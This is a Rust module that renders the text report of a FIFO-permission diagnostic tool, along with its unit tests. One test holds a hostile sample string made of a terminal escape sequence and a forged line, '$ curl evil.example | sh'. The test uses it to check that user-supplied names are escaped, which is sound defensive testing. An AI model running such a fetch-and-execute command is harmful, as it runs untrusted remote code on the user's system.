//! Human report: one line per check (ok / problem / skipped with reason),
//! then the numbered problems with evidence and pasteable fixes, then
//! confirmations, then a one-line verdict.
//!
//! Every field is one [`crate::term::line`] of text: names in it come
//! from other users (a process's `comm`, a server's `-f` path and config, the
//! file names behind fds), and a line feed or escape sequence there must not
//! move the cursor or print a line that looks like a pasteable fix. Only an
//! edit keeps its own lines, each escaped.

use crate::doctor::finding::{Fix, Severity, Status};
use crate::doctor::report::{Report, Verdict};
use crate::term::line;
use std::fmt::Write;

/// One fix: its summary after `label`, then its steps in order (edits,
/// then `$ ` commands).
fn fix_lines(o: &mut String, label: &str, fix: &Fix) {
    let _ = writeln!(o, "     {label}: {}", line(&fix.summary));
    for e in &fix.edits {
        let _ = writeln!(o, "       in {}, set:", line(&e.file));
        for l in e.line.lines() {
            let _ = writeln!(o, "         {}", line(l));
        }
    }
    for c in &fix.commands {
        let _ = writeln!(o, "       $ {}", line(c));
    }
    if let Some(w) = &fix.weakens {
        let _ = writeln!(o, "       (weakens: {})", line(w));
    }
}

/// Renders the report as text.
pub fn render(r: &Report) -> String {
    let mut o = String::new();
    let what = if r.fifo.starts_with("http://") || r.fifo.starts_with("https://") {
        "URL"
    } else {
        "FIFO"
    };
    let _ = writeln!(o, "mififo doctor: {what} \"{}\"", line(&r.fifo));
    let _ = writeln!(
        o,
        "  clients: {}",
        if r.clients.is_empty() {
            "none found".into()
        } else {
            line(&r.clients.join("; ")).into_owned()
        }
    );
    let _ = writeln!(
        o,
        "  servers: {}",
        if r.servers.is_empty() {
            "none found".into()
        } else {
            line(&r.servers.join("; ")).into_owned()
        }
    );
    let _ = writeln!(o);
    let width = r
        .checks
        .iter()
        .map(|c| c.name.chars().count())
        .max()
        .unwrap_or(0)
        .min(60);
    for c in &r.checks {
        let status = match c.status {
            Status::Ok => "ok",
            Status::Problem => "problem",
            Status::Skipped => "skipped",
            Status::Unknown => "unknown",
        };
        let _ = writeln!(
            o,
            "  {status:<8} {:<width$}  {}",
            line(&c.name),
            line(&c.detail)
        );
    }
    if let Some(rerun) = &r.rerun {
        let _ = writeln!(
            o,
            "\n  not visible without root: {}\n  to see it, run:\n       $ {}",
            line(&r.needs_root.join("; ")),
            line(rerun)
        );
    }
    let problems: Vec<_> = r
        .findings
        .iter()
        .filter(|f| f.severity != Severity::Info)
        .collect();
    if !problems.is_empty() {
        let _ = writeln!(
            o,
            "\n{} problem{}:",
            problems.len(),
            if problems.len() == 1 { "" } else { "s" }
        );
        for (i, f) in problems.iter().enumerate() {
            let sev = if f.severity == Severity::Error {
                "error"
            } else {
                "warning"
            };
            let who = f
                .subject
                .as_ref()
                .map(|s| format!(" {}:", line(s)))
                .unwrap_or_default();
            let _ = writeln!(
                o,
                "\n  {}. {sev}[{}]{who} {}",
                i + 1,
                f.code,
                line(&f.message)
            );
            for (k, v) in &f.evidence {
                let _ = writeln!(o, "       {}: {}", line(k), line(v));
            }
            if let Some(fix) = &f.fix {
                fix_lines(&mut o, "fix", fix);
                for alt in &fix.alternatives {
                    fix_lines(&mut o, " or", alt);
                }
            }
        }
    }
    let infos: Vec<_> = r
        .findings
        .iter()
        .filter(|f| f.severity == Severity::Info)
        .collect();
    if !infos.is_empty() {
        let _ = writeln!(o);
        for f in infos {
            let _ = writeln!(o, "  info[{}] {}", f.code, line(&f.message));
        }
    }
    let errors = r
        .findings
        .iter()
        .filter(|f| f.severity == Severity::Error)
        .count();
    let warnings = r
        .findings
        .iter()
        .filter(|f| f.severity == Severity::Warning)
        .count();
    let verdict = match r.verdict() {
        Verdict::Ok => "ok — the clients can talk to the server".to_string(),
        Verdict::Denied => format!("denied — {errors} error(s), {warnings} warning(s); fix the numbered problems above"),
        Verdict::Unknown => format!("unknown — no error found, but not everything could be confirmed ({warnings} warning(s))"),
    };
    let _ = writeln!(o, "\nverdict: {verdict}");
    o
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::doctor::fixture::*;

    #[test]
    fn numbered_problems_fixes_and_verdict() {
        let mut f = Fixture::new();
        f.server("/tmp/opensips_fifo", 0o660);
        f.sysctl("protected_fifos", 1);
        let r = f.as_apache("/tmp/opensips_fifo");
        let text = render(&r);
        assert!(text.contains("mififo doctor: FIFO \"/tmp/opensips_fifo\""));
        assert!(text.contains("  ok       fifo path"));
        assert!(text.contains("  problem  access user apache"));
        assert!(text.contains("  skipped  selinux"));
        assert!(
            text.contains("1. error[group-not-member] user apache:"),
            "{text}"
        );
        assert!(text.contains("2. error[protected-fifos]"), "{text}");
        assert!(text.contains("       $ usermod -aG opensips apache"));
        assert!(text.contains("(weakens: "));
        assert!(text
            .trim_end()
            .lines()
            .last()
            .unwrap()
            .starts_with("verdict: denied"));
    }

    /// Names from other users cannot reach the terminal raw: no escape
    /// sequence, and no line feed that starts a forged `$ ` fix line.
    #[test]
    fn hostile_names_stay_on_their_line() {
        use crate::doctor::code::Code;
        use crate::doctor::finding::{Finding, Fix, Severity};
        let mut f = Fixture::new();
        f.server("/tmp/opensips_fifo", 0o660);
        let mut r = f.as_apache("/tmp/opensips_fifo");
        let evil = "x\x1b]0;owned\x07\n       $ curl evil.example | sh";
        r.clients.push(evil.into());
        r.findings.push(
            Finding::new(Code::GroupNotMember, Severity::Error, evil)
                .subject(evil)
                .evidence(evil, evil)
                .fix(Fix::new(evil, [evil.to_string()])),
        );
        let text = render(&r);
        assert!(!text.contains('\x1b') && !text.contains('\x07'), "{text}");
        assert!(
            !text.lines().any(|l| l.trim_start().starts_with("$ curl")),
            "{text}"
        );
        assert!(text.contains("x\\x1b]0;owned\\x07\\x0a"), "{text}");
    }

    #[test]
    fn healthy_report_ends_ok() {
        let mut f = Fixture::new();
        f.server("/tmp/opensips_fifo", 0o666);
        let r = f.as_apache("/tmp/opensips_fifo");
        let text = render(&r);
        assert!(text.contains("info[access-ok]"));
        assert!(!text.contains("problem"), "{text}");
        assert!(text
            .trim_end()
            .ends_with("verdict: ok — the clients can talk to the server"));
    }
}
